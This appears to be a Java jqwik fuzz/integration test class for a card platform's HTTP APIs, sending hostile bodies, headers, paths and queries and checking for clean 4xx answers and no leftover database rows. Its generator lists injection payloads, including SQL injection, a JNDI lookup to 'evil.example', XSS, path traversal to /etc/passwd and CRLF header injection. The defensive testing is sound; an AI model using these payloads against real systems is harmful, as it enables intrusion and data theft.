package com.cardplatform.local;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.cardplatform.local.Endpoints.Dialect;
import com.cardplatform.local.Endpoints.Endpoint;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.math.BigDecimal;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicLong;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.ShrinkingMode;
import net.jqwik.api.lifecycle.AfterProperty;
import net.jqwik.api.lifecycle.BeforeContainer;
import net.jqwik.api.lifecycle.BeforeProperty;

/**
 * Bad input at scale (jqwik, fixed seeds, bounded tries): random and hostile bodies, header values, path segments
 * and query values at every endpoint of the OpenAPI documents, through the HTTPS front door (internal endpoints on
 * their service's port) with VALID tokens, so that the input is what is under test. The only acceptable answers are
 * the documented 4xx in the endpoint's dialect (or the front door's documented neutral refusals) or a success; never
 * a 5xx, never a stack trace, a Java class name or a secret in a body. Rejected writes leave no trace: activation
 * batches, consumer registrations, cards and Triple entities are looked up in PostgreSQL afterwards.
 */
class BadInputIT {

    static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    static final AtomicLong UNIQUE = new AtomicLong(System.currentTimeMillis() % 1_000_000L * 1000);
    static final String RUN = Long.toString(System.currentTimeMillis(), 36).toUpperCase();

    static SharedStack shared;
    static List<Endpoint> endpoints;
    /** Distinct failures of the current property (endpoint and kind), reported together when it ends. */
    static final Map<String, String> PROBLEMS = new java.util.concurrent.ConcurrentHashMap<>();

    @BeforeContainer
    static void stack() {
        shared = SharedStack.get();
        endpoints = Endpoints.all().stream().filter(e -> !e.isPublic()).toList();
    }

    /** One request: an endpoint, its path parameter values, a body, extra headers, a query string. */
    record Case(Endpoint endpoint, Map<String, String> path, byte[] body, String[] headers, String query, String what) {
        @Override
        public String toString() {
            String b = body == null ? "no body" : body.length > 200 ? body.length + " bytes: "
                    + new String(body, 0, 200, StandardCharsets.UTF_8) : new String(body, StandardCharsets.UTF_8);
            return endpoint + " " + what + " path=" + path + " query=" + query + " headers=" + Arrays.toString(headers)
                    + " body=" + b;
        }
    }

    @BeforeProperty
    void clearProblems() {
        PROBLEMS.clear();
    }

    /** Every try runs; each distinct failure (endpoint + kind of answer) is reported once, all together. */
    @AfterProperty
    void reportProblems() {
        List<String> all = new ArrayList<>(new java.util.TreeMap<>(PROBLEMS).values());
        PROBLEMS.clear();
        assertEquals(List.of(), all, all.size() + " kinds of unacceptable answers");
    }

    /** Records a failed check under a key that groups the same defect (endpoint, status, first words). */
    static void problem(Case c, Api.Response r, AssertionError e) {
        String kind = c.endpoint() + " -> " + (r == null ? "no answer" : r.status() + " "
                + r.body().replaceAll("[0-9a-f-]{36}|\\d{4}-\\d\\d-\\d\\dT[0-9:.]+Z", "").replaceAll("\"details\":\\[.*?]", "")
                        .substring(0, Math.min(60, r.body().length())));
        PROBLEMS.putIfAbsent(kind, e.getMessage().length() > 1500 ? e.getMessage().substring(0, 1500) + "..." : e.getMessage());
    }

    // ---- properties -------------------------------------------------------------------------------------------

    @Property(tries = 300, seed = "8124001", shrinking = ShrinkingMode.BOUNDED)
    void hostileBodiesAreRefusedInTheDialect(@ForAll("bodyCases") Case c) {
        checkAndRecord(c);
    }

    @Property(tries = 150, seed = "8124002", shrinking = ShrinkingMode.BOUNDED)
    void hostilePathSegmentsAreRefusedInTheDialect(@ForAll("pathCases") Case c) {
        checkAndRecord(c);
    }

    @Property(tries = 120, seed = "8124003", shrinking = ShrinkingMode.BOUNDED)
    void hostileHeaderValuesAreRefusedInTheDialect(@ForAll("headerCases") Case c) {
        Api.Response r = sendRaw(c);
        if (r.status() == 400 && !r.header("content-type").orElse("").contains("json")) {
            // malformed HTTP (e.g. a control character in a header) refused by the HTTP codec before any route
            assertTrue(r.body().length() < 100 && !Dialects.LEAK.matcher(r.body()).find(), c + ": " + r);
            return;
        }
        try {
            check(c, r);
        } catch (AssertionError e) {
            problem(c, r, e);
        }
    }

    @Property(tries = 80, seed = "8124004", shrinking = ShrinkingMode.BOUNDED)
    void hostileQueryValuesAreRefusedInTheDialect(@ForAll("queryCases") Case c) {
        checkAndRecord(c);
    }

    /** All or nothing: a batch with one hostile record is refused and none of its valid records is written. */
    @Property(tries = 60, seed = "8124005", shrinking = ShrinkingMode.BOUNDED)
    void anActivationBatchWithOneBadRecordWritesNothing(@ForAll("activationBatches") ArrayNode batch) {
        Api.Response r = Api.call("POST", "/cards/v1/set-activation-codes", shared.token("local-blackhawk"), json(batch));
        assertTrue(r.status() == 400 || r.status() == 413, batch + ": " + r);
        Dialects.assertErrorShape(Dialect.BLACKHAWK, r, "batch");
        List<Long> quotes = new ArrayList<>();
        for (JsonNode record : batch) {
            if (record.path("quoteNumber").isTextual() && record.path("quoteNumber").asText().startsWith("83")) {
                quotes.add(Long.parseLong(record.path("quoteNumber").asText()));
            }
        }
        if (!quotes.isEmpty()) {
            long lo = quotes.stream().mapToLong(Long::longValue).min().orElseThrow();
            long hi = quotes.stream().mapToLong(Long::longValue).max().orElseThrow();
            assertEquals(0, shared.count("select count(*) from activation.activation_codes where issuer_id = ? and "
                    + "quote_number::bigint between ? and ?", Endpoints.ISSUER, lo, hi), "no record of a refused batch");
        }
    }

    /** A registration with one bad account, a card or a Triple entity with one bad field: refused, no row. */
    @Property(tries = 90, seed = "8124006", shrinking = ShrinkingMode.BOUNDED)
    void aRefusedCreationLeavesNoRow(@ForAll("creations") Case c) {
        Api.Response r = send(c);
        check(c, r);
        if (r.status() >= 400) {
            String id = c.path().get("created");
            String[] table = c.path().get("table").split(":");
            assertEquals(0, shared.count("select count(*) from " + table[0] + " where " + table[1] + " = ?", id),
                    c + " was refused (" + r.status() + ") but left a row");
            if (table[0].equals("consumer.consumers")) {
                assertEquals(0, shared.count("select count(*) from consumer.accounts where consumer_id = ?", id));
                assertEquals(0, shared.count("select count(*) from consumer.operations where consumer_id = ?", id));
            }
        }
    }

    /** 10 MB bodies at every write endpoint: the front door (413, neutral) and each service itself (413, dialect). */
    @Example
    void tenMegabyteBodiesAreRefusedByTheFrontDoorAndByEveryService() {
        byte[] huge = tenMegabytes();
        List<String> problems = new ArrayList<>();
        for (Endpoint e : endpoints) {
            if (!e.hasBody()) {
                continue;
            }
            String path = e.path(Map.of());
            List<String[]> headers = headers(e, "Content-Type", "application/json", "Authorization", "Bearer " + token(e));
            for (boolean chunked : new boolean[] {false, true}) {
                String what = e + (chunked ? " chunked" : " with Content-Length");
                collect(problems, () -> {
                    Api.Response direct = RawHttp.direct(e.service(), e.method(), path, headers, huge, chunked);
                    // a declared length is refused as too large; a chunked body is cut at the limit (then 413 or 400)
                    if (chunked) {
                        assertTrue(direct.status() == 413 || direct.status() == 400, what + " at the service: " + direct);
                    } else {
                        assertEquals(413, direct.status(), what + " at the service: " + direct);
                    }
                    // Known limitation (common-errors README): a chunked body cut at the limit by Quarkus's own
                    // max-body-size check gets an empty 413; only a declared Content-Length is rendered in the dialect.
                    // The front door, the only way in from outside, refuses both with a neutral JSON body.
                    if (!chunked) {
                        Dialects.assertErrorShape(e.dialect(), direct, what + " at the service");
                    }
                    assertFalse(Dialects.isFrontDoorRefusal(direct), direct.body());
                });
                if (e.routed()) {
                    collect(problems, () -> {
                        Api.Response front = RawHttp.frontDoor(e.method(), path, headers, huge, chunked);
                        assertEquals(413, front.status(), what + " through the front door: " + front);
                        assertTrue(Dialects.isFrontDoorRefusal(front), front.body());
                    });
                }
            }
        }
        assertEquals(List.of(), problems);
    }

    /** JSON nested far deeper than any parser should follow, within each API's body limit: 4xx, never 500. */
    @Example
    void deeplyNestedJsonIsRefusedEverywhere() {
        List<String> problems = new ArrayList<>();
        for (Endpoint e : endpoints) {
            if (!e.hasBody()) {
                continue;
            }
            for (String nested : List.of("[".repeat(6000) + "]".repeat(6000), "{\"a\":".repeat(2500) + "1" + "}".repeat(2500))) {
                Case c = new Case(e, Map.of(), nested.getBytes(StandardCharsets.UTF_8), new String[0], null, "deep");
                collect(problems, () -> {
                    Api.Response r = send(c);
                    check(c, r);
                    assertTrue(r.status() >= 400, c + ": " + r);
                });
            }
        }
        assertEquals(List.of(), problems);
    }

    static void collect(List<String> problems, Runnable check) {
        try {
            check.run();
        } catch (AssertionError | RuntimeException e) {
            String m = String.valueOf(e.getMessage());
            problems.add(m.length() > 600 ? m.substring(0, 600) + "..." : m);
        }
    }

    // ---- the checks ---------------------------------------------------------------------------------------------

    static void checkAndRecord(Case c) {
        Api.Response r = null;
        try {
            r = send(c);
            check(c, r);
        } catch (AssertionError e) {
            problem(c, r, e);
        } catch (RuntimeException e) {
            problem(c, r, new AssertionError(c + ": no HTTP answer: " + e));
        }
    }

    /** The three Triple listing routes answer 501 by design (rewards-account-service README). */
    static boolean documentedNotImplemented(Case c, Api.Response r) {
        return r.status() == 501 && c.endpoint().method().equals("GET")
                && List.of("/partner/publishers", "/partner/card-programs", "/partner/card-accounts").contains(c.endpoint().template())
                && r.body().contains("\"TripleNotImplementedError\"");
    }

    static void check(Case c, Api.Response r) {
        String what = c.toString();
        assertTrue(r.status() < 500 || documentedNotImplemented(c, r), "5xx for " + what + ": " + r);
        assertTrue(r.status() != 401, "the token is valid: " + what + ": " + r);
        Dialects.assertNoLeak(r.body(), what);
        if (r.status() >= 400 && r.status() < 500) {
            Dialects.assertErrorShape(c.endpoint().dialect(), r, what);
            if (r.status() == 403) {
                // documented 403s: a business refusal, a Citi channel not configured, or a path naming another issuer
                boolean issuerFuzzed = c.path().containsKey("issuerId");
                assertTrue(r.body().contains("OPERATION_NOT_ALLOWED") || r.body().contains("accessNotConfigured")
                        || issuerFuzzed && r.body().equals("{\"errorCode\":\"AUTHORIZER_FORBIDDEN\",\"error\":\"not_authorized\"}"),
                        "403 only for a documented business refusal: " + what + ": " + r);
            }
        }
    }

    static Api.Response send(Case c) {
        try {
            return sendWithHttpClient(c);
        } catch (IllegalArgumentException notSendable) {
            // a header value java.net.http refuses to send: write it byte by byte
            Endpoint e = c.endpoint();
            List<String[]> headers = headers(e, c.headers());
            headers.add(new String[] {"Authorization", "Bearer " + token(e)});
            byte[] body = c.body() != null ? c.body() : e.hasBody() ? json(e.sampleBody()) : null;
            String path = e.path(c.path()) + (c.query() == null ? "" : "?" + c.query());
            return e.routed() ? RawHttp.frontDoor(e.method(), path, headers, body, false)
                    : RawHttp.direct(e.service(), e.method(), path, headers, body, false);
        }
    }

    static Api.Response sendWithHttpClient(Case c) {
        Endpoint e = c.endpoint();
        String path = e.path(c.path()) + (c.query() == null ? "" : "?" + c.query());
        String[] headers = concat(e.sampleHeaders(), c.headers());
        Object body = c.body() == null ? (e.hasBody() ? e.sampleBody() : null) : c.body();
        String token = token(e);
        return e.routed() ? Api.call(e.method(), path, token, body, headers)
                : Api.direct(e.service(), e.method(), path, token, body, headers);
    }

    static Api.Response sendRaw(Case c) {
        Endpoint e = c.endpoint();
        List<String[]> headers = headers(e, c.headers());
        headers.add(new String[] {"Authorization", "Bearer " + token(e)});
        byte[] body = e.hasBody() ? json(e.sampleBody()) : null;
        if (body != null && headers.stream().noneMatch(h -> h[0].equalsIgnoreCase("Content-Type"))) {
            headers.add(new String[] {"Content-Type", "application/json"});
        }
        String path = e.path(Map.of());
        return e.routed() ? RawHttp.frontDoor(e.method(), path, headers, body, false)
                : RawHttp.direct(e.service(), e.method(), path, headers, body, false);
    }

    /** A real token from the token endpoint for the endpoint's partner. */
    static String token(Endpoint e) {
        if (e.template().startsWith("/internal/")) {
            return shared.token("consumer-service");
        }
        return switch (e.dialect()) {
            case TRIPLE -> shared.token("local-triple");
            case BLACKHAWK -> shared.token("local-blackhawk");
            case CITI -> shared.token("local-citi");
            default -> shared.token("local-d1-issuer");
        };
    }

    // ---- generators ---------------------------------------------------------------------------------------------

    /** Strings that have broken parsers, validators, loggers and SQL before. */
    static Arbitrary<String> hostileStrings() {
        return Arbitraries.oneOf(
                Arbitraries.of("", " ", "null", "true", "-1", "0", "1e999", "NaN", "9".repeat(40), "' OR '1'='1' --",
                        "\"; DROP TABLE cards; --", "${jndi:ldap://evil.example/a}", "#{7*7}", "%s%s%s%n", "%00",
                        "<script>alert(1)</script>", "../../../../etc/passwd", "..%2F..%2F", "\\", "\"", "{}", "[]",
                        "\u0000", "a\u0000b", "\u202Egnp.exe", "\uFEFF", "😀🔥", "𝕳𝖊𝖑𝖑𝖔", "ǅ", "İ", "ß", "\r\nX-Injected: 1",
                        "\u001b[31mred", "CON", "A".repeat(65), "1".repeat(19), "triple-", "triple-" + "x".repeat(200)),
                Arbitraries.strings().withCharRange('\u0000', '\u001f').ofMinLength(1).ofMaxLength(8),
                Arbitraries.strings().withCharRange(' ', '\uD7FF').ofMinLength(1).ofMaxLength(40),
                Arbitraries.strings().alpha().numeric().ofMinLength(1).ofMaxLength(8).map(s -> s.repeat(1 + 12_000 / s.length())));
    }

    /** Any JSON value: scalars of every type, hostile strings, arrays and objects a few levels deep. */
    static Arbitrary<JsonNode> jsonValues(int depth) {
        List<Arbitrary<? extends JsonNode>> choices = new ArrayList<>(List.of(
                hostileStrings().map(NODES::textNode),
                Arbitraries.longs().map(NODES::numberNode),
                Arbitraries.of(new BigDecimal("1e400"), new BigDecimal("-0.000001"), new BigDecimal("12345678901234567890123"))
                        .map(NODES::numberNode),
                Arbitraries.of(true, false).map(NODES::booleanNode),
                Arbitraries.just(NODES.nullNode())));
        if (depth > 0) {
            choices.add(jsonValues(depth - 1).list().ofMaxSize(4).map(l -> {
                ArrayNode a = NODES.arrayNode();
                a.addAll(l);
                return a;
            }));
            Arbitrary<String> names = Arbitraries.oneOf(Arbitraries.of("consumerId", "__proto__", "constructor", "", "$where",
                    "status_code", "a\u0000b"), Arbitraries.strings().ofMaxLength(20));
            choices.add(Combinators.combine(names.list().ofMaxSize(4),
                    jsonValues(depth - 1).list().ofSize(4)).as((keys, values) -> {
                        ObjectNode o = NODES.objectNode();
                        for (int i = 0; i < keys.size(); i++) {
                            o.set(keys.get(i), values.get(i));
                        }
                        return o;
                    }));
        }
        @SuppressWarnings("unchecked")
        Arbitrary<JsonNode>[] all = choices.toArray(new Arbitrary[0]);
        return Arbitraries.oneOf(List.of(all));
    }

    /** Bytes that are not (valid) JSON. */
    static Arbitrary<byte[]> notJson() {
        return Arbitraries.oneOf(
                Arbitraries.of("", "{", "[", "{\"a\":", "{\"a\" 1}", "{'a':1}", "[1,]", "{\"a\":1}}", "nul", "01",
                        "<xml/>", "\u0000\u0000", "{\"a\":\"\\uZZZZ\"}", "{\"a\":1,\"a\":2}", "\"just a string\"", "42",
                        "--boundary\r\nContent-Disposition: form-data\r\n").map(s -> s.getBytes(StandardCharsets.UTF_8)),
                Arbitraries.bytes().array(byte[].class).ofMinSize(1).ofMaxSize(300),
                Arbitraries.of(new byte[] {(byte) 0xC3, 0x28}, new byte[] {(byte) 0xFF, (byte) 0xFE, '{', 0, '}', 0},
                        new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xED, (byte) 0xA0, (byte) 0x80, '"', '}'}));
    }

    @Provide
    Arbitrary<Case> bodyCases() {
        Arbitrary<Endpoint> writes = Arbitraries.of(endpoints.stream().filter(Endpoint::hasBody).toList());
        return writes.flatMap(e -> Arbitraries.oneOf(
                // the valid body with one field replaced by anything
                Combinators.combine(Arbitraries.of(fields(e)), jsonValues(2)).as((field, value) -> {
                    JsonNode body = SharedStack.JSON.valueToTree(e.sampleBody());
                    replace(body, field, value);
                    return new Case(e, Map.of(), json(body), new String[0], null, "field " + field);
                }),
                // the valid body with a field removed, or an unknown one added
                Arbitraries.of(fields(e)).map(field -> {
                    JsonNode body = SharedStack.JSON.valueToTree(e.sampleBody());
                    if (body instanceof ObjectNode o) {
                        o.remove(field);
                    } else if (body instanceof ArrayNode a && a.get(0) instanceof ObjectNode o) {
                        o.remove(field);
                    }
                    return new Case(e, Map.of(), json(body), new String[0], null, "without " + field);
                }),
                // any JSON at all
                jsonValues(3).map(v -> new Case(e, Map.of(), json(v), new String[0], null, "random JSON")),
                // not JSON, or JSON sent as something else
                notJson().map(b -> new Case(e, Map.of(), b, new String[0], null, "not JSON")),
                Arbitraries.of("text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data",
                        "application/json; charset=ebcdic", "application/json\u00e9", "*/*", "")
                        .map(type -> new Case(e, Map.of(), json(e.sampleBody()), new String[] {"Content-Type", type}, null,
                                "content type " + type))));
    }

    @Provide
    Arbitrary<Case> pathCases() {
        Arbitrary<Endpoint> withParameters = Arbitraries.of(endpoints.stream().filter(e -> e.template().contains("{")).toList());
        return withParameters.flatMap(e -> Combinators.combine(Arbitraries.of(parameters(e)),
                        hostileStrings().filter(v -> v.length() <= 600))
                .as((parameter, value) -> {
                    String encoded = URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
                    Map<String, String> path = new LinkedHashMap<>();
                    path.put(parameter, encoded.isEmpty() ? "%20" : encoded);
                    return new Case(e, path, null, new String[0], null, "path " + parameter);
                }));
    }

    @Provide
    Arbitrary<Case> headerCases() {
        Arbitrary<Endpoint> any = Arbitraries.of(endpoints);
        Arbitrary<String> values = Arbitraries.oneOf(hostileStrings().filter(s -> s.length() < 4000)
                .map(s -> s.replace("\r", "").replace("\n", "")),
                Arbitraries.strings().withCharRange('\u0001', '\u001f').ofMinLength(1).ofMaxLength(5)
                        .map(s -> s.replace("\r", "").replace("\n", "")).filter(s -> !s.isEmpty()));
        return any.flatMap(e -> Combinators.combine(Arbitraries.of(headerNames(e)), values)
                .as((name, value) -> new Case(e, Map.of(), null, new String[] {name, value}, null, "header " + name)));
    }

    @Provide
    Arbitrary<Case> queryCases() {
        Arbitrary<Endpoint> gets = Arbitraries.of(endpoints.stream().filter(e -> e.method().equals("GET")).toList());
        return gets.flatMap(e -> Combinators.combine(Arbitraries.of("offset", "limit", "offset", "limit", "id", "x"),
                        hostileStrings().filter(v -> v.length() <= 600), Arbitraries.integers().between(1, 3))
                .as((name, value, times) -> {
                    String one = name + "=" + URLEncoder.encode(value, StandardCharsets.UTF_8);
                    return new Case(e, Map.of(), null, new String[0], String.join("&", java.util.Collections.nCopies(times, one)),
                            "query " + name);
                }));
    }

    @Provide
    Arbitrary<ArrayNode> activationBatches() {
        // values that break the documented rules for sure (digits-only numbers of 18/19 digits, codes [A-Za-z0-9]{4,16})
        Arbitrary<JsonNode> badNumber = Arbitraries.oneOf(
                Arbitraries.of(NODES.numberNode(-1), NODES.numberNode(1.5), NODES.numberNode(new BigDecimal("1e30")),
                        NODES.booleanNode(true), NODES.nullNode(), NODES.textNode(""), NODES.textNode(" "),
                        NODES.textNode("12a"), NODES.textNode("-5"), NODES.textNode("1".repeat(25)), NODES.arrayNode(),
                        NODES.objectNode(), NODES.textNode("１２３"), NODES.textNode("12\u00003")),
                hostileStrings().filter(v -> !v.isBlank() && !v.matches("[0-9]+")).map(NODES::textNode));
        Arbitrary<JsonNode> badCode = Arbitraries.oneOf(
                Arbitraries.of(NODES.textNode("abc"), NODES.textNode("ab"), NODES.textNode("x".repeat(17)),
                        NODES.textNode("Code 1"), NODES.textNode("Códe1"), NODES.textNode("code\u0000x"),
                        NODES.textNode("😀😀😀😀"), NODES.booleanNode(false), NODES.nullNode(), NODES.numberNode(1.25),
                        NODES.arrayNode(), NODES.objectNode(), NODES.textNode("")),
                hostileStrings().filter(v -> !v.matches("[A-Za-z0-9]{4,16}")).map(NODES::textNode));
        Arbitrary<ObjectNode> bad = Arbitraries.oneOf(
                Combinators.combine(Arbitraries.of("quoteNumber", "proxyNumber"), badNumber).as((field, value) -> {
                    ObjectNode r = validRecord();
                    r.set(field, value);
                    return r;
                }),
                badCode.map(value -> {
                    ObjectNode r = validRecord();
                    r.set("activationCode", value);
                    return r;
                }),
                Arbitraries.of("quoteNumber", "proxyNumber", "activationCode").map(field -> {
                    ObjectNode r = validRecord();
                    r.remove(field);
                    return r;
                }),
                jsonValues(1).filter(v -> !v.isObject()).map(v -> {
                    ObjectNode wrapper = NODES.objectNode();
                    wrapper.set("notARecord", v);
                    wrapper.remove("notARecord");
                    return wrapper; // an empty object: every field missing
                }));
        return Combinators.combine(Arbitraries.integers().between(1, 60), Arbitraries.integers().between(0, 60), bad)
                .as((size, position, record) -> {
                    ArrayNode batch = NODES.arrayNode();
                    for (int i = 0; i < size; i++) {
                        batch.add(validRecord());
                    }
                    batch.insert(Math.min(position, size), record);
                    return batch;
                });
    }

    @Provide
    Arbitrary<Case> creations() {
        Endpoint register = endpoint("POST", "/issuers/{issuerId}/consumers");
        Endpoint card = endpoint("POST", "/issuers/{issuerId}/cards");
        Endpoint publisher = endpoint("POST", "/partner/publishers");
        Endpoint account = endpoint("POST", "/partner/card-accounts");
        Arbitrary<Case> consumers = Combinators.combine(Arbitraries.integers().between(0, 5), jsonValues(1))
                .as((good, bad) -> {
                    String id = "bi-" + RUN + "-" + UNIQUE.incrementAndGet();
                    ObjectNode body = NODES.objectNode().put("consumerId", id);
                    ArrayNode accounts = body.putArray("accounts");
                    for (int i = 0; i < good; i++) {
                        accounts.addObject().put("accountId", "BI-" + i);
                    }
                    accounts.addObject().set("accountId", bad);
                    return new Case(register, Map.of("created", id, "table", "consumer.consumers:consumer_id"), json(body),
                            new String[0], null, "register with a bad account");
                });
        Arbitrary<Case> cards = Combinators.combine(Arbitraries.of("consumerId", "accountId", "productType", "customerNumber",
                "programId", "proxyNumber", "pan"), jsonValues(1)).as((field, value) -> {
                    String id = "BI-" + RUN + "-" + UNIQUE.incrementAndGet();
                    ObjectNode body = NODES.objectNode().put("cardId", id).put("consumerId", "bi-consumer")
                            .put("accountId", "BI-1").put("productType", "DEBIT");
                    body.set(field, value);
                    return new Case(card, Map.of("created", id, "table", "card.cards:card_id"), json(body), new String[0],
                            null, "card with a bad " + field);
                });
        Arbitrary<Case> publishers = jsonValues(1).map(value -> {
            String id = "bi-" + RUN + "-" + UNIQUE.incrementAndGet();
            ObjectNode body = NODES.objectNode().put("external_id", id);
            body.set("name", value);
            return new Case(publisher, Map.of("created", id, "table", "rewards.publishers:external_id"), json(body),
                    new String[0], null, "publisher with a bad name");
        });
        Arbitrary<Case> accounts = Combinators.combine(Arbitraries.of("default_country_code", "default_postal_code", "status",
                "card_program_id"), jsonValues(1)).as((field, value) -> {
                    String id = "bi-" + RUN + "-" + UNIQUE.incrementAndGet();
                    ObjectNode body = NODES.objectNode().put("card_program_id", "triple-AAAAAAAAAAAAAAAAAAAAAA")
                            .put("external_id", id);
                    body.set(field, value);
                    return new Case(account, Map.of("created", id, "table", "rewards.card_accounts:external_id"), json(body),
                            new String[0], null, "card account with a bad " + field);
                });
        return Arbitraries.oneOf(consumers, cards, publishers, accounts);
    }

    // ---- helpers ------------------------------------------------------------------------------------------------

    static ObjectNode validRecord() {
        long n = 830_000_000_000L + UNIQUE.incrementAndGet();
        return NODES.objectNode().put("quoteNumber", Long.toString(n)).put("proxyNumber", "60395" + n)
                .put("activationCode", "Bi" + Long.toString(n, 36));
    }

    static Endpoint endpoint(String method, String template) {
        return endpoints.stream().filter(e -> e.method().equals(method) && e.template().equals(template)).findFirst()
                .orElseThrow(() -> new AssertionError(method + " " + template + " not in the OpenAPI documents"));
    }

    static List<String> fields(Endpoint e) {
        Object sample = e.sampleBody();
        JsonNode body = SharedStack.JSON.valueToTree(sample);
        JsonNode object = body.isArray() ? body.get(0) : body;
        List<String> fields = new ArrayList<>();
        if (object != null) {
            object.fieldNames().forEachRemaining(fields::add);
        }
        if (fields.isEmpty()) {
            fields.add("anything");
        }
        return fields;
    }

    static void replace(JsonNode body, String field, JsonNode value) {
        if (body instanceof ObjectNode o) {
            o.set(field, value);
        } else if (body instanceof ArrayNode a && a.get(0) instanceof ObjectNode o) {
            o.set(field, value);
        }
    }

    static List<String> parameters(Endpoint e) {
        List<String> names = new ArrayList<>();
        java.util.regex.Matcher m = java.util.regex.Pattern.compile("\\{([^}]+)}").matcher(e.template());
        while (m.find()) {
            names.add(m.group(1));
        }
        return names;
    }

    static List<String> headerNames(Endpoint e) {
        List<String> names = new ArrayList<>(List.of("x-correlation-id", "Accept", "Content-Type", "X-Forwarded-For",
                "Accept-Language", "If-None-Match"));
        if (e.dialect() == Dialect.CITI) {
            names.addAll(List.of("uuid", "countryCode", "businessCode", "ChannelId", "sid", "client_id"));
        }
        return names;
    }

    static List<String[]> headers(Endpoint e, String... extra) {
        List<String[]> headers = new ArrayList<>();
        String[] sample = concat(e.sampleHeaders(), extra);
        Map<String, String> merged = new LinkedHashMap<>();
        merged.put("Accept", "application/json");
        for (int i = 0; i + 1 < sample.length; i += 2) {
            String name = sample[i];
            merged.keySet().removeIf(k -> k.equalsIgnoreCase(name));
            merged.put(name, sample[i + 1]);
        }
        merged.forEach((k, v) -> headers.add(new String[] {k, v}));
        return headers;
    }

    static String[] concat(String[] a, String[] b) {
        String[] all = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, all, a.length, b.length);
        // a later header of the same name replaces the earlier one
        Map<String, String> merged = new LinkedHashMap<>();
        for (int i = 0; i + 1 < all.length; i += 2) {
            String name = all[i];
            merged.keySet().removeIf(k -> k.equalsIgnoreCase(name));
            merged.put(name, all[i + 1]);
        }
        return merged.entrySet().stream().flatMap(x -> java.util.stream.Stream.of(x.getKey(), x.getValue()))
                .toArray(String[]::new);
    }

    static byte[] json(Object value) {
        try {
            return SharedStack.JSON.writeValueAsBytes(value);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    static byte[] tenMegabytes() {
        StringBuilder b = new StringBuilder(10 * 1024 * 1024 + 100).append('[');
        String record = "{\"quoteNumber\":\"1\",\"proxyNumber\":\"1\",\"activationCode\":\"AAAAAAAAAAAAAAAA\"},";
        while (b.length() < 10 * 1024 * 1024) {
            b.append(record);
        }
        b.setLength(b.length() - 1);
        return b.append(']').toString().getBytes(StandardCharsets.US_ASCII);
    }
}
